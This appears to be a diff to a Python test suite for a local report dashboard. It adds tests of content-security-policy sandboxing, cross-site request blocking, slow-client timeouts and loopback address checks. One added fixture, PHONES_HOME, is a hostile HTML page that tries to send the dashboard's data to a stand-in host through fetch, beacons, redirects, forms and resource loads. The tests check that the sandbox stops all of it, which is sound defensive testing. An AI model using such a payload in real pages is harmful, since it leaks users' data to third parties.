@@ -3,19 +3,21 @@
 from __future__ import annotations
 
 import http.client
+import http.server
 import json
 import os
 import socket
 import threading
 import time
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from pathlib import Path
 
 import pytest
 import uvicorn
 
-from ddtl.dashboard.command import LOOPBACK
+from ddtl.dashboard import patience
+from ddtl.dashboard.command import LOOPBACK, is_loopback
 from ddtl.dashboard.server import app
 from ddtl.errors import UserError
 from tests import browser, records
@@ -29,7 +31,8 @@ NAME = HOSTILE[1].replace("/", "")[:120]
 def served(root: Path) -> Iterator[int]:
     """The port of a dashboard."""
     listening = socket.create_server(("127.0.0.1", 0))
-    server = uvicorn.Server(uvicorn.Config(app(root, [*LOOPBACK, "[::1]"]), log_level="error", lifespan="off"))
+    config = uvicorn.Config(app(root, [*LOOPBACK, "[::1]"]), http=patience.Impatient, log_level="error", lifespan="off")
+    server = uvicorn.Server(config)
     thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
     thread.start()
     try:
@@ -73,9 +76,50 @@ def test_rows_come_with_a_tag_and_once(port: int) -> None:
 
 def test_a_report_is_shown_in_a_sandbox(port: int) -> None:
     status, headers, body = ask(port, "/report/covid19ct/one")
+    assert (status, b'src="/page/covid19ct/one"' in body) == (200, True)
+    assert "frame-src 'self'" in headers["content-security-policy"]
+    assert b"not written by this version" in body
+    status, headers, body = ask(port, "/page/covid19ct/one", **{"Sec-Fetch-Dest": "iframe"})
     assert (status, b"the page of one" in body) == (200, True)
-    assert headers["content-security-policy"] == "sandbox allow-scripts allow-downloads"
-    assert ask(port, "/report/covid19ct/under_way")[0] == 404
+    policy = headers["content-security-policy"]
+    assert policy.startswith("sandbox allow-scripts allow-downloads; default-src 'none'; script-src 'sha256-")
+    assert "unsafe" not in policy
+    assert ask(port, "/page/covid19ct/one", **{"Sec-Fetch-Dest": "document"})[0] == 404
+    for kind in ("report", "page"):
+        assert ask(port, f"/{kind}/covid19ct/under_way")[0] == 404
+
+
+def test_other_sites_learn_nothing(port: int) -> None:
+    both = "run=covid19ct/one&run=covid19ct/two"
+    for page in ("/api/rows", f"/compare?{both}", "/report/covid19ct/one", "/page/covid19ct/one"):
+        for origin in ("cross-site", "same-site"):
+            assert ask(port, page, **{"Sec-Fetch-Site": origin})[0] == 403
+        assert ask(port, page, **{"Sec-Fetch-Site": "same-origin"})[0] == 200
+    assert ask(port, "/", **{"Sec-Fetch-Site": "cross-site"})[0] == 200  # a link to it
+
+
+def test_a_client_that_never_asks_or_never_ends_is_cut_off(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(patience, "ASKING", 1.0)
+    for words in (b"", b"GET / HT", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: "):
+        with socket.create_connection(("127.0.0.1", port), timeout=10) as client:
+            client.sendall(words)
+            began = time.monotonic()
+            with suppress(ConnectionResetError):
+                assert client.recv(100) == b""
+            assert time.monotonic() - began < 5
+    assert ask(port, "/")[0] == 200
+
+
+@pytest.mark.parametrize(
+    ("host", "here"),
+    [
+        ("127.0.0.1", True), ("127.8.9.10", True), ("::1", True), ("localhost", True), ("LOCALHOST", True),
+        ("::ffff:127.0.0.1", True), ("0.0.0.0", False), ("::", False), ("192.168.1.2", False), ("example.org", False),
+        ("127.0.0.1.example.org", False),
+    ],
+)  # fmt: skip
+def test_which_addresses_are_this_machine_alone(host: str, here: bool) -> None:
+    assert is_loopback(host) is here
 
 
 @pytest.mark.parametrize(
@@ -189,4 +233,83 @@ def test_in_a_browser_it_sorts_filters_compares_and_keeps_up(root: Path, port: i
         assert [
             one for one in tab.requests if not one.startswith((f"http://127.0.0.1:{port}/", "data:", "blob:"))
         ] == []
+        assert tab.complaints == []
+
+
+# What somebody may put into a page that is passed on; HOME counts who calls.
+PHONES_HOME = """<!doctype html><html><head>
+<meta http-equiv="refresh" content="1; url=HOME/refresh"><link rel="preconnect" href="HOME/connect">
+<link rel="stylesheet" href="HOME/style"><link rel="prefetch" href="HOME/prefetch"><link rel="icon" href="HOME/icon">
+<style>@import "HOME/import"; body { background: url(HOME/body) } @font-face { font-family: x; src: url(HOME/font) }
+</style></head><body style="background: url(HOME/attribute); font-family: x" onload="fetch('HOME/onload')">
+<img src="HOME/img" onerror="location = 'HOME/onerror'"><iframe src="HOME/frame"></iframe><object data="HOME/o"/>
+<video src="HOME/video" poster="HOME/poster"></video><svg><image href="HOME/svg"/><use href="HOME/use#x"/></svg>
+<script src="HOME/script"></script>
+<script>
+fetch("HOME/fetch"); navigator.sendBeacon("HOME/beacon"); new Image().src = "HOME/image"; new WebSocket("WS/socket");
+new EventSource("HOME/events"); window.open("HOME/popup"); setTimeout(() => { top.location = "HOME/top"; }, 200);
+fetch("/api/rows").then(a => a.text()).then(t => { location = "HOME/stolen?" + t; });
+</script>
+<form action="HOME/form" method="post"><button id="b">x</button></form><script>document.forms[0].submit()</script>
+<a id="a" href="HOME/link" ping="HOME/ping">x</a><script>document.getElementById("a").click()</script>
+words of the page</body></html>"""
+
+
+@contextmanager
+def counting() -> Iterator[tuple[str, list[str]]]:
+    """A server's address, and every path that it has been asked for."""
+    asked: list[str] = []
+
+    class Home(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815  # the name is http.server's
+
+        def log_message(self, *_: object) -> None:
+            """Into the list alone."""
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Home)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}", asked
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.slow
+def test_a_page_from_a_stranger_phones_nobody(root: Path, port: int, tmp_path: Path) -> None:
+    with counting() as (home, asked), browser.opened(tmp_path / "profile") as tab:
+        page = PHONES_HOME.replace("HOME", home).replace("WS", home.replace("http", "ws"))
+        (root / "covid19ct" / "two" / "report.html").write_text(page)
+        tab.go(f"http://127.0.0.1:{port}/report/covid19ct/two", width=1200)
+        time.sleep(4)
+        assert tab.run("location.pathname") == "/report/covid19ct/two"
+        assert f"http://127.0.0.1:{port}/page/covid19ct/two" in tab.requests
+        assert asked == []
+        # The counter counts, and the page does what it can where nothing stops it.
+        (tmp_path / "page.html").write_text(page)
+        tab.go((tmp_path / "page.html").as_uri(), width=1200)
+        time.sleep(2)
+        assert {"/fetch", "/img", "/style", "/attribute"} <= set(asked)
+
+
+@pytest.mark.slow
+def test_our_own_page_works_within_its_frame(root: Path, port: int, tmp_path: Path) -> None:
+    from ddtl.reports.command import write
+
+    write(root / "covid19ct" / "one")
+    with browser.opened(tmp_path / "profile") as tab:
+        tab.go(f"http://127.0.0.1:{port}/report/covid19ct/one", width=1200)
+        until(tab, "document.querySelector('iframe') !== null")
+        assert tab.run("document.querySelector('p')") is None
+        time.sleep(3)
+        assert tab.complaints == []
+        tab.picture(tmp_path / "frame.png")
+        # The same page by itself, under the policy of its own head.
+        tab.go((root / "covid19ct" / "one" / "report.html").as_uri(), width=1200)
+        until(tab, "document.querySelectorAll('.main-svg').length > 0")
         assert tab.complaints == []
